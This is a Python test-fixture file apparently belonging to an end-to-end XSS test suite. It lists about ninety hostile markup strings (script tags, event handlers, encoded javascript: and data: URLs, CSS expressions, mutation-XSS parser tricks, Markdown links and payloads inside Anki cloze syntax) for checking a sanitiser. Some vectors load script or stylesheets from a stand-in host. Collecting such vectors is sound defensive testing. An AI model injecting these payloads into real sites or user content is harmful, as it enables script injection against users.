"""Hostile markup for the end-to-end XSS suite: OWASP filter-evasion
vectors, mutation-XSS (parser differential) tricks, entity-encoded schemes,
Markdown link/image/autolink forms and Anki-specific placements (inside a
cloze deletion). Each is synced in every text kind and every position."""

from __future__ import annotations

_JS = "javascript:alert(1)"

XSS_VECTORS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<script/src=//xss.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=\"polar-0123456789abcdef0123.png\" onerror=\"alert(1)\">",
    "<img src='x.png'/onerror='alert(1)'>",
    '<img src="x" alt="x" onerror  =  "alert(1)">',
    "<b/onclick=alert(1)>x</b>",
    '<p onmouseover="alert(1)">hover</p>',
    "<body onload=alert(1)>x</body>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "<div onpointerenter=alert(1)>x</div>",
    # javascript:/vbscript:/data: URLs, plain and encoded
    f'<a href="{_JS}">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<IMG SRC=" + "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')") + ">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',  # SVG bytes dressed as PNG
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    "<isindex action=javascript:alert(1) type=image>",
    '<img src="x.png" srcset="javascript:alert(1) 1x">',
    # SVG / MathML / frames / objects
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # CSS
    "<style>@import 'http://xss.example/xss.css';</style>",
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<span style="behavior:url(x.htc)">x</span>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # styles: a user's colours are kept, validated, and written anew; nothing else
    '<span style="color:red;background:url(javascript:alert(1))">x</span>',
    '<span style="color:expression(alert(1));background-color:yellow">x</span>',
    '<span style="color:red&#59;background-image:url(javascript:alert(1))">x</span>',
    '<span style="--x:url(javascript:alert(1));color:var(--x)">x</span>',
    '<span style="color:red</style><script>alert(1)</script>">x</span>',
    '<span style="color:#f00\\;background:url(javascript:alert(1))">x</span>',
    '<span style="color:light-dark(red,url(javascript:alert(1)))">x</span>',
    '<font color="red" style="background-image:url(javascript:alert(1))" onmouseover="alert(1)">x</font>',
    '<font color="#f00&quot; onmouseover=&quot;alert(1)">x</font>',
    '<p style="x:1;font-weight:bold;@import url(javascript:alert(1))">x</p>',
    # mutation XSS / parser differentials / malformed
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<a href="https://ok.example/"<img src=x onerror=alert(1)>>',
    "<img src=x onerror=alert(1)//",
    "<div><p>unclosed <b>bold <i>italic <script>alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Markdown forms
    f"[click]({_JS})",
    f"![img]({_JS})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<{_JS}>",
    f"[ref][1]\n\n[1]: {_JS}",
    f"[x]( {_JS} )",
    "```\n<script>alert(1)</script>\n```",
    # inside Anki syntax
    "{{c1::<script>alert(1)</script>}}",
    "{{c1::x::<img src=x onerror=alert(1)>}}",
]

assert len(XSS_VECTORS) >= 50
